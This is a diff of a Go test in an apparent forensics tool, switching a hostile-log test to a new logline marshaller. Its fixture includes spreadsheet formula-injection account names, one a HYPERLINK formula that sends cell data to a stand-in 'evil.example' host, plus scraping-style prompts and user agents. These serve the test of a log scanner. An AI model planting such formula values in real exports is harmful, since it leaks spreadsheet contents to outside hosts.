@@ -14,6 +14,7 @@ import (
 	"unicode/utf8"
 
 	"forensics/evidence"
+	"forensics/logline"
 	"forensics/probe"
 )
 
@@ -242,13 +243,15 @@ func TestScanLogsHostileLog(t *testing.T) {
 	names := []string{"=HYPERLINK(\"http://evil.example/?\"&A1)" + hostileText, "@SUM(1+1)\n\t" + hostileText}
 	var lines []string
 	for i := range 60 {
-		rec := map[string]any{
-			"ts":      start.Add(time.Duration(i) * time.Minute).Format(time.RFC3339),
-			"account": names[i%2], "ip": "203.0.113.9", "user_agent": "harvest/1.0 " + hostileText,
-			"prompt": fmt.Sprintf("Explain in full detail with reasoning step by step topic number %d %s", i/2, hostileText),
-			"params": map[string]any{"top_logprobs": 5, "temperature": 0.2 * float64(i%6)}, "prompt_tokens": 12, "completion_tokens": 300,
+		prompt := fmt.Sprintf("Explain in full detail with reasoning step by step topic number %d %s", i/2, hostileText)
+		b, err := logline.Marshal(&logline.Entry{
+			TS:      start.Add(time.Duration(i) * time.Minute).Format(time.RFC3339),
+			Account: names[i%2], IP: "203.0.113.9", UserAgent: "harvest/1.0 " + hostileText, Prompt: &prompt,
+			Params: map[string]any{"top_logprobs": 5, "temperature": 0.2 * float64(i%6)}, PromptTokens: 12, CompletionTokens: 300,
+		})
+		if err != nil {
+			t.Fatal(err)
 		}
-		b, _ := json.Marshal(rec)
 		lines = append(lines, string(b))
 	}
 	lines = append(lines, "not json "+hostileText, `{"ts":"`+hostileText+`","account":"x"}`)
